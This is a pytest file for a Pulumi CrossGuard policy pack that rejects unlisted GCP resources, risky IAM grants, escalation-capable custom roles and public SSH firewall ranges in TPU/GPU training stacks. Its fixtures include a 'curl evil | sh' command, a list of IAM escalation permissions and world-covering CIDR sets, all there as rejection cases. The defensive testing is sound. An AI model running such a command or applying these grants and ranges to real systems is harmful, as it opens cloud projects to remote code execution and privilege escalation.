"""The pack is a closed world: a real stack (the resources the program registers under
Pulumi's mocks) plus ONE resource the program does not create, or one grant it does not
make, or one firewall range set that covers public addresses, is rejected with a message
that names what is wrong and how to allow it. And the allowlists are exactly what the
programs use: a type, API or grant the program gains, or an entry it no longer needs, fails
a test here (so every change to the lists is a reviewed change)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from policy_harness import Violation, run_pack, urn_for
from stacks_harness import GPU_STACKS, STACKS, Resource, resources

from policy import allowlist, closed_world, executables, identities, network
from policy.resources import BUCKET, FIREWALL, SECRET, SERVICE, TPU_VM

STACK = "v6e-euw4"  # one real stack per case; the six stacks pass in test_stacks.py
PROJECT = "tpu-pretrain-test"  # the project the offline harness gives every stack
DEFAULT_SA = "123456789012-compute@developer.gserviceaccount.com"
APPSPOT_SA = f"{PROJECT}@appspot.gserviceaccount.com"
CONTROLLER = f"serviceAccount:tp-{STACK}-controller@{PROJECT}.iam.gserviceaccount.com"
WORKLOAD_ID = (
    f"projects/{PROJECT}/serviceAccounts/tp-{STACK}-workload@{PROJECT}.iam.gserviceaccount.com"
)


def _extra(type_: str, props: dict[str, Any], name: str = "extra") -> Resource:
    return type_, name, props, urn_for(type_, name, stack=STACK)


def _with(extra: Resource) -> list[Violation]:
    violations = run_pack([*resources(STACK), extra])
    assert violations, f"{extra[0]} {extra[2]} was accepted"
    # Only the extra resource is at fault: the rest of the stack is the real one.
    assert {v.urn for v in violations} == {extra[3]}, violations
    return violations


# --- one unknown resource type -----------------------------------------------------------
UNKNOWN_TYPES: list[tuple[str, dict[str, Any]]] = [
    ("gcp:compute/firewallPolicyRule:FirewallPolicyRule",
     {"action": "allow", "direction": "INGRESS",
      "match": {"srcIpRanges": ["0.0.0.0/0"], "layer4Configs": [{"ipProtocol": "tcp"}]}}),
    ("gcp:compute/networkFirewallPolicyRule:NetworkFirewallPolicyRule",
     {"action": "allow", "match": {"srcIpRanges": ["0.0.0.0/0"]}}),
    ("gcp:compute/firewallPolicy:FirewallPolicy", {"parent": "organizations/1"}),
    ("gcp:tpu/v2QueuedResource:V2QueuedResource",
     {"tpu": {"nodeSpecs": [{"node": {"networkConfig": {"enableExternalIps": True}}}]}}),
    ("gcp:compute/instanceTemplate:InstanceTemplate",
     {"networkInterfaces": [{"accessConfigs": [{}]}], "serviceAccount": {"email": DEFAULT_SA}}),
    ("gcp:compute/instanceFromTemplate:InstanceFromTemplate",
     {"sourceInstanceTemplate": "tmpl", "networkInterfaces": [{"accessConfigs": [{}]}]}),
    ("gcp:compute/instanceGroupManager:InstanceGroupManager", {"baseInstanceName": "x"}),
    ("gcp:serviceaccount/key:Key", {"serviceAccountId": WORKLOAD_ID}),
    ("gcp:storage/hmacKey:HmacKey", {"serviceAccountEmail": f"tp-{STACK}-workload@x.com"}),
    ("gcp:apikeys/key:Key", {"name": "k"}),
    ("gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider",
     {"oidc": {"issuerUri": "https://token.actions.githubusercontent.com"},
      "attributeCondition": "true"}),
    ("gcp:iam/workloadIdentityPool:WorkloadIdentityPool", {"workloadIdentityPoolId": "p"}),
    ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
     {"key": "enable-oslogin", "value": "FALSE"}),
    ("gcp:compute/route:Route", {"destRange": "0.0.0.0/0", "nextHopGateway": "default"}),
    ("gcp:compute/forwardingRule:ForwardingRule", {"portRange": "22"}),
    ("gcp:cloudfunctionsv2/function:Function", {"location": "europe-west4"}),
    ("gcp:projects/iAMCustomRole:IAMCustomRole",
     {"roleId": "tpuViewer", "permissions": ["tpu.nodes.get"]}),
    ("gcp:organizations/project:Project", {"projectId": "another"}),
    ("gcp:storage/bucketACL:BucketACL", {"bucket": "b", "roleEntities": ["OWNER:user-x"]}),
    ("aws:s3/bucket:Bucket", {}),
    ("command:local:Command", {"create": "curl evil | sh"}),
]  # fmt: skip


@pytest.mark.parametrize(
    ("type_", "props"), UNKNOWN_TYPES, ids=[t.split(":")[-1] for t, _ in UNKNOWN_TYPES]
)
def test_a_stack_with_an_unknown_type_is_rejected(type_: str, props: dict[str, Any]) -> None:
    violations = _with(_extra(type_, props))
    [unknown] = [v for v in violations if v.policy == "allowed-resource-types"]
    assert unknown.message.startswith(closed_world.MSG_UNKNOWN_TYPE)
    assert type_ in unknown.message
    assert "policy/allowlist.py" in unknown.message
    assert "no stack setting" in unknown.message


def test_a_resource_of_another_pulumi_project_is_rejected() -> None:
    type_ = BUCKET
    extra = (type_, "x", {}, f"urn:pulumi:{STACK}::someone-else::{type_}::x")
    [violation] = [v for v in _with(extra) if v.policy == "allowed-resource-types"]
    assert "'someone-else'" in violation.message


def test_bootstrap_types_are_not_allowed_in_a_stack() -> None:
    """The profiles are separate: what the bootstrap may create, a stack may not."""
    for type_ in set(allowlist.BOOTSTRAP.types) - set(allowlist.MAIN.types):
        violations = _with(_extra(type_, {}))
        assert "allowed-resource-types" in {v.policy for v in violations}, type_


def test_an_unknown_api_is_rejected() -> None:
    [violation] = _with(
        _extra("gcp:projects/service:Service", {"service": "cloudbuild.googleapis.com"})
    )
    assert violation.policy == "allowed-apis"
    assert "cloudbuild.googleapis.com" in violation.message


# --- one unknown role / grant -------------------------------------------------------------
def _project_grant(role: str, member: str = CONTROLLER) -> Resource:
    return _extra(
        "gcp:projects/iAMMember:IAMMember", {"project": PROJECT, "role": role, "member": member}
    )


def _account_grant(role: str, account: str, member: str = CONTROLLER) -> Resource:
    return _extra(
        "gcp:serviceaccount/iAMMember:IAMMember",
        {"serviceAccountId": account, "role": role, "member": member},
    )


def _gpu_recovery_grant(
    member: str = CONTROLLER,
    condition: str | None = f'resource.name == "projects/{PROJECT}/zones/z/instances/tp-x-gpu"',
) -> Resource:
    props: dict[str, Any] = {
        "project": PROJECT,
        "role": f"projects/{PROJECT}/roles/{allowlist.GPU_RECOVERY_ROLE_ID}",
        "member": member,
    }
    if condition is not None:
        props["condition"] = {"title": "t", "expression": condition}
    return _extra("gcp:projects/iAMMember:IAMMember", props)


def test_the_gpu_recovery_grant_of_the_program_passes() -> None:
    """The grant the rejected cases below change one thing of."""
    assert run_pack([*resources(STACK), _gpu_recovery_grant()]) == []


UNKNOWN_GRANTS: list[tuple[str, Resource]] = [
    ("token-creator-on-project", _project_grant("roles/iam.serviceAccountTokenCreator")),
    ("sa-user-on-project", _project_grant("roles/iam.serviceAccountUser")),
    ("project-iam-admin", _project_grant("roles/resourcemanager.projectIamAdmin")),
    ("sa-key-admin", _project_grant("roles/iam.serviceAccountKeyAdmin")),
    ("security-admin", _project_grant("roles/iam.securityAdmin")),
    ("workload-identity-user", _project_grant("roles/iam.workloadIdentityUser")),
    ("os-admin-login-to-a-user", _project_grant("roles/compute.osAdminLogin", "user:a@b.c")),
    ("log-writer-to-a-group", _project_grant("roles/logging.logWriter", "group:g@b.c")),
    ("log-writer-to-a-foreign-account",
     _project_grant("roles/logging.logWriter", "serviceAccount:x@other.iam.gserviceaccount.com")),
    ("recovery-role-to-the-tpu-account",
     _project_grant(f"projects/{PROJECT}/roles/{allowlist.RECOVERY_ROLE_ID}",
                    CONTROLLER.replace("-controller@", "-workload@"))),
    ("gpu-recovery-role-to-the-workload-account",
     _gpu_recovery_grant(CONTROLLER.replace("-controller@", "-workload@"))),
    # Without its condition it would start every VM of the project.
    ("gpu-recovery-role-without-a-condition", _gpu_recovery_grant(condition=None)),
    ("gpu-recovery-role-on-a-vm-of-no-stack",
     _gpu_recovery_grant(condition=f'resource.name == "projects/{PROJECT}/zones/z/instances/db"')),
    ("token-creator-on-own-account",
     _account_grant("roles/iam.serviceAccountTokenCreator", WORKLOAD_ID)),
    ("sa-user-on-own-account-to-a-user",
     _account_grant("roles/iam.serviceAccountUser", WORKLOAD_ID, "user:a@b.c")),
    ("sa-user-on-another-stack",
     _account_grant("roles/iam.serviceAccountUser",
                    WORKLOAD_ID.replace(f"tp-{STACK}-", "tp-other-"))),
    ("bucket-admin", _extra("gcp:storage/bucketIAMMember:BucketIAMMember",
                            {"bucket": "b", "role": "roles/storage.admin", "member": CONTROLLER})),
    ("secret-admin", _extra("gcp:secretmanager/secretIamMember:SecretIamMember",
                            {"secretId": "s", "role": "roles/secretmanager.admin",
                             "member": CONTROLLER})),
    ("policy-data", _extra("gcp:projects/iAMPolicy:IAMPolicy", {
        "policyData": '{"bindings": [{"role": "roles/iam.serviceAccountTokenCreator",'
                      f' "members": ["{CONTROLLER}"]}}]}}'})),
]  # fmt: skip


@pytest.mark.parametrize(("case", "extra"), UNKNOWN_GRANTS, ids=[c for c, _ in UNKNOWN_GRANTS])
def test_a_stack_with_a_grant_outside_the_allowlist_is_rejected(case: str, extra: Resource) -> None:
    violations = _with(extra)
    grants = [v for v in violations if v.policy == "allowed-iam-grants"]
    assert grants, violations
    assert all("policy/allowlist.py" in v.message for v in grants)


def test_an_allowed_role_on_a_resource_of_another_stack_is_rejected() -> None:
    props = {"bucket": "tpu-pretrain-example-pulumi-state", "role": "roles/storage.objectViewer"}
    violations = _with(
        _extra("gcp:storage/bucketIAMMember:BucketIAMMember", {**props, "member": CONTROLLER})
    )
    assert {v.policy for v in violations} == {"grants-on-own-resources"}
    assert "is not a" in violations[0].message


def test_the_hop_reading_a_secret_is_refused_the_stacks_keep_none() -> None:
    """The hop makes its own WireGuard key on its disk: a secret and a grant on one are
    outside the allowlist (the grant the hop had before, on its own stack's secret)."""
    hop = CONTROLLER.replace("-controller@", "-vpn-hop@")
    secret_id = f"tp-{STACK}-vpn-hop-wireguard-server-key"
    secret = _with(_extra(SECRET, {"secretId": secret_id, "replication": {"auto": {}}}))
    assert {v.policy for v in secret} == {"allowed-resource-types"}
    access = _with(
        _extra(
            "gcp:secretmanager/secretIamMember:SecretIamMember",
            {"secretId": secret_id, "role": "roles/secretmanager.secretAccessor", "member": hop},
        )
    )
    assert {"allowed-resource-types", "allowed-iam-grants"} <= {v.policy for v in access}


def test_the_grant_message_names_the_role_and_what_is_allowed() -> None:
    violations = _with(_project_grant("roles/iam.serviceAccountTokenCreator"))
    # Token creation on the project is also a way to write what a VM runs (as any account).
    assert {v.policy for v in violations} == {
        "allowed-iam-grants",
        "vm-accounts-write-no-executables",
    }
    [violation] = [v for v in violations if v.policy == "allowed-iam-grants"]
    assert "roles/iam.serviceAccountTokenCreator" in violation.message
    assert "roles/logging.logWriter" in violation.message  # what may be granted there


# --- one custom role with a dangerous permission -------------------------------------------
DANGEROUS = [
    "resourcemanager.projects.setIamPolicy",
    "iam.serviceAccounts.setIamPolicy",
    "iam.serviceAccounts.getAccessToken",
    "iam.serviceAccounts.signBlob",
    "iam.serviceAccounts.signJwt",
    "iam.serviceAccounts.actAs",
    "iam.serviceAccountKeys.create",
    "iam.roles.update",
    "storage.buckets.setIamPolicy",
]


@pytest.mark.parametrize("permission", DANGEROUS)
def test_a_stack_with_a_dangerous_custom_role_is_rejected(permission: str) -> None:
    role = _extra(
        "gcp:projects/iAMCustomRole:IAMCustomRole",
        {"roleId": "helper", "permissions": ["compute.instances.get", permission]},
        name="helper-role",
    )
    [custom] = [v for v in _with(role) if v.policy == "custom-role-permissions"]
    assert custom.message.startswith(closed_world.MSG_CUSTOM_ROLE)
    assert f"it can escalate through {permission}" in custom.message
    # Granting it is refused as well: a custom role is allowed by its id (and an unknown one
    # to a stack account may write what a VM runs).
    grant = _project_grant(f"projects/{PROJECT}/roles/helper")
    assert {v.policy for v in _with(grant)} == {
        "allowed-iam-grants",
        "vm-accounts-write-no-executables",
    }


def test_a_known_custom_role_id_may_not_gain_a_permission() -> None:
    """The recovery role's id is allowed in the bootstrap, with its own permissions only."""
    type_ = "gcp:projects/iAMCustomRole:IAMCustomRole"
    permissions = [*sorted(allowlist.RECOVERY_PERMISSIONS), "iam.serviceAccounts.actAs"]
    props = {"roleId": allowlist.RECOVERY_ROLE_ID, "permissions": permissions}
    urn = urn_for(type_, "r", stack="bootstrap", project=allowlist.BOOTSTRAP_PROJECT)
    [violation] = run_pack([(type_, "r", props, urn)])
    assert violation.policy == "custom-role-permissions"
    assert "may not hold iam.serviceAccounts.actAs" in violation.message


# --- one grant on (or to) a default account ----------------------------------------------
DEFAULT_ACCOUNT_GRANTS: list[tuple[str, Resource]] = [
    ("sa-user-on-default-compute",
     _account_grant("roles/iam.serviceAccountUser",
                    f"projects/{PROJECT}/serviceAccounts/{DEFAULT_SA}")),
    ("sa-user-on-default-compute-any-project",
     _account_grant("roles/iam.serviceAccountUser", f"projects/-/serviceAccounts/{DEFAULT_SA}")),
    ("token-creator-on-app-engine-default",
     _account_grant("roles/iam.serviceAccountTokenCreator",
                    f"projects/{PROJECT}/serviceAccounts/{APPSPOT_SA}")),
    ("binding-on-default-compute",
     _extra("gcp:serviceaccount/iAMBinding:IAMBinding", {
         "serviceAccountId": f"projects/{PROJECT}/serviceAccounts/{DEFAULT_SA}",
         "role": "roles/iam.serviceAccountUser", "members": [CONTROLLER]})),
    ("log-writer-to-default-compute",
     _project_grant("roles/logging.logWriter", f"serviceAccount:{DEFAULT_SA}")),
]  # fmt: skip


@pytest.mark.parametrize(
    ("case", "extra"), DEFAULT_ACCOUNT_GRANTS, ids=[c for c, _ in DEFAULT_ACCOUNT_GRANTS]
)
def test_a_grant_involving_a_default_account_is_rejected(case: str, extra: Resource) -> None:
    violations = _with(extra)
    default = [v for v in violations if v.policy == "no-default-compute-service-account"]
    assert default, violations
    assert all(v.message.startswith(identities.MSG_DEFAULT_SA) for v in default)
    assert "allowed-iam-grants" in {v.policy for v in violations}


@pytest.mark.parametrize(
    "email",
    [
        f"tpu-pretrain-deploy@{PROJECT}.iam.gserviceaccount.com",
        f"tp-other-admin@{PROJECT}.iam.gserviceaccount.com",
        DEFAULT_SA,
        APPSPOT_SA,
    ],
)
def test_a_vm_running_as_another_account_is_rejected(email: str) -> None:
    stack_resources = resources(STACK)
    [tpu] = [r for r in stack_resources if r[0] == TPU_VM]
    tpu[2]["serviceAccount"]["email"] = email
    violations = run_pack(stack_resources)
    assert "vm-accounts-are-stack-accounts" in {v.policy for v in violations}
    assert {v.urn for v in violations} == {tpu[3]}


# --- one near-world range set ---------------------------------------------------------------
def _ssh_from(ranges: list[str], stack: str = STACK) -> list[Violation]:
    stack_resources = resources(stack)
    [ssh] = [r for r in stack_resources if r[0] == FIREWALL and "allow-ssh" in r[1]]
    ssh[2]["sourceRanges"] = ranges
    return run_pack(stack_resources)


NEAR_WORLD = {
    "two-halves": ["0.0.0.0/1", "128.0.0.0/1"],
    "256-slash-8s": [f"{i}.0.0.0/8" for i in range(256)],
    "world-but-rfc1918": [
        "0.0.0.0/5", "8.0.0.0/7", "11.0.0.0/8", "12.0.0.0/6", "16.0.0.0/4", "32.0.0.0/3",
        "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/9", "192.128.0.0/11", "192.160.0.0/13",
        "192.169.0.0/16", "192.170.0.0/15", "192.172.0.0/14", "192.176.0.0/12",
        "192.192.0.0/10", "193.0.0.0/8", "194.0.0.0/7", "196.0.0.0/6", "200.0.0.0/5",
        "208.0.0.0/4", "224.0.0.0/3",
    ],
    "one-public-address": ["35.235.240.0/20", "8.8.8.8/32"],
    "a-class-a": ["1.0.0.0/8"],
    "iap-plus-a-neighbour": ["35.235.224.0/19"],
    "ipv6-world": ["::/0"],
    "ipv6-halves": ["::/1", "8000::/1"],
    "host-bits-set": ["0.0.0.1/0"],
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(NEAR_WORLD))
def test_a_public_range_set_on_ssh_is_rejected(case: str) -> None:
    violations = _ssh_from(NEAR_WORLD[case])
    assert violations, case
    assert {v.policy for v in violations} == {"no-ssh-rdp-from-internet"}, violations
    assert all("public addresses" in v.message for v in violations)


def test_private_and_google_ranges_are_not_public() -> None:
    assert (
        _ssh_from(["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", *network.GOOGLE_SOURCE_RANGES])
        == []
    )


def _with_wireguard_sources(ranges: list[str], ssh: list[str]) -> list[Violation]:
    stack_resources = resources(STACK)
    for type_, name, props, _ in stack_resources:
        if type_ == FIREWALL and "allow-wireguard" in name:
            props["sourceRanges"] = ranges
        if type_ == FIREWALL and "allow-ssh" in name:
            props["sourceRanges"] = ssh
    return run_pack(stack_resources)


def test_public_sources_inside_the_stack_s_user_cidrs_pass() -> None:
    """The CIDRs a stack declares for its users (vpnAllowedCidrs, the WireGuard rule's
    sources) may reach SSH too, however the set is split."""
    users = ["198.51.100.0/24", "203.0.113.0/24"]
    assert _with_wireguard_sources(users, ["198.51.100.0/25", "198.51.100.128/25"]) == []
    [violation] = _with_wireguard_sources(users, ["198.51.100.0/23"])
    assert "256 public addresses (198.51.101.0/24)" in violation.message


def test_a_user_declaration_of_everywhere_exempts_nothing() -> None:
    """WireGuard may face the whole internet; that does not open SSH to it."""
    assert _with_wireguard_sources(["0.0.0.0/0"], ["35.235.240.0/20"]) == []
    violations = _with_wireguard_sources(["0.0.0.0/0"], ["0.0.0.0/1", "128.0.0.0/1"])
    assert {v.policy for v in violations} == {"no-ssh-rdp-from-internet"}
    assert "exempt nothing" in violations[0].message
    wide = [f"{i}.0.0.0/8" for i in range(1, 10)]
    assert _with_wireguard_sources(wide, ["5.0.0.0/24"])


def test_a_second_wireguard_shaped_rule_to_every_vm_is_not_the_vpn_entry() -> None:
    extra = _extra(
        FIREWALL,
        {"sourceRanges": ["0.0.0.0/0"], "allows": [{"protocol": "udp", "ports": ["53"]}]},
    )
    assert {v.policy for v in _with(extra)} == {"no-public-ingress"}


# --- the lists are exactly what the programs use ------------------------------------------
def _all_variants() -> list[list[Resource]]:
    return (
        [resources(s) for s in STACKS]
        + [
            resources(s, {f"tpu-pretrain:{'gpu' if s in GPU_STACKS else 'tpu'}AutoRecover": flag})
            for s in STACKS
            for flag in (True, False)
        ]
        + [resources(s, DATAFLOW_ON) for s in DATAFLOW_STACKS]
        + [resources(s, ALERTS_ON) for s in ALERT_STACKS]
    )


# Dataflow is off by default; these stacks run with it on (tests/policy/test_dataflow_policy.py).
DATAFLOW_ON = {"tpu-pretrain:dataflow": True}
DATAFLOW_STACKS = ("v6e-euw4", "t4-usc1")
# Alerts are off by default (no tpu-pretrain:alertEmails); these stacks run with an address
# (tests/policy/test_stacks.py).
ALERTS_ON = {"tpu-pretrain:alertEmails": ["ops@example.com"]}
ALERT_STACKS = ("v6e-euw4", "t4-usc1")


def test_every_allowed_main_type_api_and_grant_is_used_by_a_stack() -> None:
    """No stale entry: each type, API and grant of the main profile appears in some stack
    (with and without the TPU watchdog). The opposite direction (nothing the program creates
    is missing) is the real stacks passing the pack with zero violations."""
    variants = _all_variants()
    types = {r[0] for stack in variants for r in stack}
    apis = {r[2]["service"] for stack in variants for r in stack if r[0] == SERVICE}
    unused_types = set(allowlist.MAIN.types) - types - {"pulumi:pulumi:Stack"}
    assert {t for t in unused_types if not t.startswith("pulumi:providers:")} == set()
    assert apis == set(allowlist.MAIN.apis)
    used = set()
    for stack in variants:
        for type_, _, props, _ in stack:
            for grant in allowlist.MAIN.grants:
                if (
                    type_ in grant.types
                    and closed_world.role_key(props.get("role", "")) == grant.role
                ):
                    used.add(grant)
    assert used == set(allowlist.MAIN.grants)


@pytest.mark.parametrize("auto_recover", [True, False])
def test_every_stack_variant_passes(auto_recover: bool) -> None:
    for stack in STACKS:
        # Each kind of stack refuses the other kind's settings.
        key = "gpuAutoRecover" if stack in GPU_STACKS else "tpuAutoRecover"
        assert run_pack(resources(stack, {f"tpu-pretrain:{key}": auto_recover})) == []


def test_the_guard_rails_page_counts_the_rules_and_names_the_closed_world() -> None:
    from pathlib import Path

    from policy_harness import POLICY_BY_NAME

    page = (Path(__file__).resolve().parents[2] / "docs" / "guard-rails.md").read_text()
    assert page.startswith(
        f"# Guard rails (policy/, Pulumi CrossGuard, {len(POLICY_BY_NAME)} rules,"
    )
    # The closed world's rules, the executables rule and the ingress rules, by their families.
    named = {rule.policy.name for rule in (*closed_world.rules(), *executables.rules())} | {
        network.RULE_SSH_RDP,
        network.RULE_SERVICE_PORTS,
        network.RULE_PUBLIC_INGRESS,
    }
    assert named <= set(POLICY_BY_NAME)
    assert {name for name in named if f"`{name}`" not in page} == set()


def test_the_allowlist_cites_only_rules_of_the_pack() -> None:
    """What an allowlisted type is governed by names rules in words; every such name (a
    hyphenated word) is a rule the families build, so a renamed rule leaves no stale name."""
    from policy_harness import POLICY_BY_NAME

    cited = {
        (profile.project, type_, word)
        for profile in allowlist.PROFILES.values()
        for type_, why in profile.types.items()
        for word in re.findall(r"(?<![\w<-])[a-z0-9]+(?:-[a-z0-9]+)+(?![\w>-])", why)
    }
    assert cited, "the pattern finds the rules the allowlist names"
    assert {entry for entry in cited if entry[2] not in POLICY_BY_NAME} == set()


def test_the_profiles_are_the_projects_of_the_two_programs() -> None:
    """The pack selects its lists by the Pulumi project in each URN: the names must be the
    `name` of the two programs' Pulumi.yaml (the real stacks passing shows the URNs use it)."""
    from pathlib import Path

    import yaml

    root = Path(__file__).resolve().parents[2]
    main = yaml.safe_load((root / "Pulumi.yaml").read_text())["name"]
    bootstrap = yaml.safe_load((root / "infra" / "bootstrap" / "Pulumi.yaml").read_text())["name"]
    assert (main, bootstrap) == (allowlist.MAIN_PROJECT, allowlist.BOOTSTRAP_PROJECT)
    assert set(allowlist.PROFILES) == {main, bootstrap}
    assert {closed_world.project_of(r[3]) for r in resources(STACK)} == {main}


def test_an_unknown_type_is_refused_even_while_its_values_are_unknown() -> None:
    """The type check reads no property, so a preview (with values still unknown) already
    fails on it; it is never left to the advisory "can't run during preview"."""
    from policy_harness import POLICY_BY_NAME, check_resource
    from pulumi_policy.proxy import UNKNOWN_STRING_VALUE

    [message] = check_resource(
        POLICY_BY_NAME["allowed-resource-types"],
        "gcp:tpu/v2QueuedResource:V2QueuedResource",
        {"zone": UNKNOWN_STRING_VALUE, "tpu": UNKNOWN_STRING_VALUE},
    )
    assert message.startswith(closed_world.MSG_UNKNOWN_TYPE)
